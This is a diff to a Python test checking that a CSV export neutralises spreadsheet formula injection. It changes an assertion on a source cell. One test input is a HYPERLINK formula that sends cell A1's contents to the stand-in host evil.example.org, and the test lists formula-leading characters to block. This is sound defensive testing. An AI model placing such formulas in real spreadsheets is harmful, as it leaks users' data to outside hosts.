@@ -490,7 +490,8 @@ def test_csv_export_neutralises_formulas(tmp_path: Path) -> None:
     [row] = list(csv.DictReader(io.StringIO(text)))
     assert row["question"] == '\'=HYPERLINK("https://evil.example.org/?d="&A1, "Click")'
     assert row["prompts"] == "'+1+1\n-2\n\tTabbed\n\rReturn\nPlain = fine"
-    assert row["source"].startswith("'@SUM(1+1).")
+    # The attribution cell starts with "Source: ", never with the title's "@".
+    assert row["source"] == "Source: @SUM(1+1)."
     assert row["id"] == "sheet-1"
     for cell in row.values():
         assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
